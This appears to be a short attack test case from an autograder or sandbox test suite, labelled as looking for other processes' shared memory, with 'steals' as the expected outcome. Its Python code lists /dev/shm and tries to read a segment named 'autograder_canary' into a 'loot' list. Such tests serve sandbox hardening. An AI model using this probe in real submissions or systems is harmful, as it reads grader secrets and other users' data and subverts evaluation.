# attack: looks for shared memory of others
# exercises: vertical_edge_kernel
# outcome: steals
import os
from multiprocessing import shared_memory
try:
    loot.append(os.listdir("/dev/shm"))
except OSError:
    pass
try:
    loot.append(bytes(shared_memory.SharedMemory("autograder_canary").buf))
except Exception as error:
    loot.append(type(error).__name__)
